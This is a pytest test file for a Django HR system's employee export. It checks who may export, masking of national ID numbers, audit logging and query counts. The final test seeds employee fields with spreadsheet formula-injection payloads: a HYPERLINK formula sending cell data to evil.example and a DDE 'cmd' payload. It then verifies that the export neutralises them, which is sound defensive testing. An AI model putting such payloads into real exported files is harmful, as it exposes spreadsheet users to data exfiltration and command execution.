"""Directory export: scoped to what the user may see, NIK masked unless permitted, audited once."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from pamong.audit.models import AuditEvent
from pamong.people import imports
from pamong.people.models import Employee


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_hr_exports_csv_of_own_pemda_with_nik_and_one_audit_event(world, login):
    client = login(world.hr_admin)
    before = AuditEvent.objects.count()

    response = client.get(reverse("people:employee-export"), {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv(response)
    assert rows[0] == imports.HEADERS
    nips = {row[0] for row in rows[1:]}
    assert nips == set(Employee.objects.filter(pemda=world.pemda, is_active=True).values_list("nip", flat=True))
    mine = next(row for row in rows if row[0] == world.employee.nip)
    assert mine[1] == world.employee.nik
    assert mine[13] == "III/a"
    assert mine[16] == world.division.name
    assert mine[14] == world.employee.first_appointment_date.strftime("%d-%m-%Y")
    events = list(AuditEvent.objects.order_by("pk")[before:])
    assert [e.action for e in events] == ["people.employees_exported"]
    assert events[0].changes["rows"] == [None, len(rows) - 1]


def test_executive_exports_xlsx_of_own_pemda_with_masked_nik_and_filters(world, login):
    client = login(world.executive)

    response = client.get(reverse("people:employee-export"), {"format": "xlsx", "unit": str(world.education.public_id)})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == imports.HEADERS
    assert {row[0] for row in rows[1:]} == {world.unit_head.nip, world.supervisor.nip, world.employee.nip, world.peer.nip}
    assert all(row[1].startswith("************") for row in rows[1:])
    assert world.other_pemda_employee.nip not in {row[0] for row in rows}


def test_exported_sheet_imports_back_unchanged(world, login):
    client = login(world.hr_admin)
    content = b"".join(client.get(reverse("people:employee-export"), {"format": "xlsx"}).streaming_content)
    _, records = imports.read_sheet("x.xlsx", content)
    plans = imports.plan_rows(records, pemda_id=world.pemda.pk)
    assert {plan.action for plan in plans} == {"unchanged"}, [p.reasons for p in plans if p.reasons]


@pytest.mark.parametrize("persona", ["employee", "supervisor", "unit_head", "auditor"])
def test_who_may_not_export_gets_403(world, login, persona):
    response = login(getattr(world, persona)).get(reverse("people:employee-export"), {"format": "csv"})
    assert response.status_code == 403


def test_export_row_formatting_issues_no_query_per_row(world, login):
    client = login(world.hr_admin)
    client.get(reverse("people:employee-export"), {"format": "csv"})  # warm caches
    with CaptureQueriesContext(connection) as few:
        b"".join(client.get(reverse("people:employee-export"), {"format": "csv"}).streaming_content)
    from pamong.people.tests.factories import EmployeeFactory

    for _ in range(5):
        EmployeeFactory(position=world.staff_position.__class__.objects.get(pk=world.staff_position.pk), pemda=world.pemda)
    with CaptureQueriesContext(connection) as more:
        b"".join(client.get(reverse("people:employee-export"), {"format": "csv"}).streaming_content)
    assert len(more) == len(few)


# --- Formula injection (pamong.core.spreadsheets) ------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_typed_by_users_are_never_written_as_formulas(world, login, fmt):
    from pamong.core.tests.sheets import dangerous_csv_cells, formula_cells

    Employee.objects.filter(pk=world.employee.pk).update(name=EVIL_NAME, back_title="+cmd|' /C calc'!A0",
                                                         address="@SUM(1+1)*cmd")
    Employee.objects.filter(pk=world.peer.pk).update(name="-2+3")

    response = login(world.hr_admin).get(reverse("people:employee-export"), {"format": fmt})

    content = b"".join(response.streaming_content)
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        assert dangerous_csv_cells(text) == []
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        mine = next(row for row in rows if row[0] == world.employee.nip)
        assert mine[3] == "'" + EVIL_NAME  # shown as typed, after the apostrophe that keeps it text
        assert mine[4] == "'+cmd|' /C calc'!A0"
        assert next(row for row in rows if row[0] == world.peer.nip)[3] == "'-2+3"
    else:
        assert formula_cells(content) == []
        rows = [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)]
        mine = next(row for row in rows if row[0] == world.employee.nip)
        assert mine[3] == EVIL_NAME  # a text cell, shown exactly as typed
        assert next(row for row in rows if row[0] == world.peer.nip)[3] == "-2+3"
